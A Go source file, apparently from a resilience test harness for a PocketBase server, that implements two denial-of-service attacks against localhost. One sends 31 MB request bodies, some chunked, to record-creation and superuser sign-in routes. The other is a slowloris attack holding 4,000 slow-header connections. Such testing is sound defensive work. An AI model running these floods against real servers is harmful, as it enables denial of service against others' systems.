package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"time"
)

// The attacks on what a request costs before it is answered (issue 35): large bodies
// that PocketBase's routes read before they check who sent them, and connections that
// send their headers slowly.
const (
	hostileBodyConns       = 16
	hostileBodyBytes       = 31 << 20
	hostileSlowConns       = 4000
	hostileSlowHeaderEvery = 2 * time.Second
	hostileSlowHeaderBytes = 1 << 10
	// hostileSlowReconnectGap is how long a slow client waits to open a connection the
	// server closed again: slowloris' own cycle is 15 s. (A flood of connections, each
	// opened the moment the last was closed, is a network's attack, for the proxy.)
	hostileSlowReconnectGap = 10 * time.Second
)

// bodiesAttack posts 31 MB JSON bodies to PocketBase's record creation (403 to
// visitors) and superusers' sign-in, alternately, every other one without its length
// (chunked).
func bodiesAttack() attack {
	body := bytes.Repeat([]byte("a"), hostileBodyBytes)
	copy(body, `{"identity":"x","password":"`)
	copy(body[len(body)-2:], `"}`)
	paths := []string{"/api/collections/products/records", "/api/collections/_superusers/auth-with-password"}
	return attack{
		key: "bodies", name: fmt.Sprintf("%d MB JSON bodies to %s and %s, every other one chunked", hostileBodyBytes>>20, paths[0], paths[1]),
		connections: hostileBodyConns,
		raw: func(n int) net.Buffers {
			head := "POST " + paths[n%2] + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
			if (n/2)%2 == 0 {
				return net.Buffers{[]byte(head + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(body))), body}
			}
			chunked := head + fmt.Sprintf("Transfer-Encoding: chunked\r\n\r\n%x\r\n", len(body))
			return net.Buffers{[]byte(chunked), body, []byte("\r\n0\r\n\r\n")}
		},
	}
}

// slowAttack holds 4,000 connections that send a request's headers a line every 2 s and
// never end them (slowloris). A connection the server closes is opened again 10 s later.
func slowAttack() attack {
	return attack{
		key: "slow", name: fmt.Sprintf("%d connections sending their headers slowly (a %d-byte line every %s, again %s after a close)", hostileSlowConns, hostileSlowHeaderBytes, hostileSlowHeaderEvery, hostileSlowReconnectGap),
		connections: hostileSlowConns,
		hold:        sendHeadersSlowly,
	}
}

// sendHeadersSlowly opens a connection to addr and sends a request's headers a line at
// a time until the server closes it; the answer says how long that took.
func sendHeadersSlowly(ctx context.Context, dialer *net.Dialer, addr string) (answer, example string) {
	conn, err := dialer.DialContext(ctx, "tcp", addr)
	if err != nil {
		answer, example = failure(ctx, err)
		pause(ctx, hostileSlowReconnectGap)
		return answer, example
	}
	defer conn.Close()
	opened := time.Now()
	closed := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, conn) // the server's answer, if any, then its close
		closed <- err
	}()
	line := append([]byte("X-Slow: "), bytes.Repeat([]byte("s"), hostileSlowHeaderBytes-10)...)
	line = append(line, "\r\n"...)
	_, err = conn.Write([]byte("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"))
	tick := time.NewTicker(hostileSlowHeaderEvery)
	defer tick.Stop()
	for err == nil {
		select {
		case <-ctx.Done():
			return "unanswered at the end", ""
		case <-closed:
			err = io.EOF
		case <-tick.C:
			_, err = conn.Write(line)
		}
	}
	held := time.Since(opened)
	pause(ctx, hostileSlowReconnectGap)
	if held < time.Second {
		return "closed at once", ""
	}
	return fmt.Sprintf("closed after %d s", int(held.Seconds())), ""
}

// pause waits d, or until ctx ends.
func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
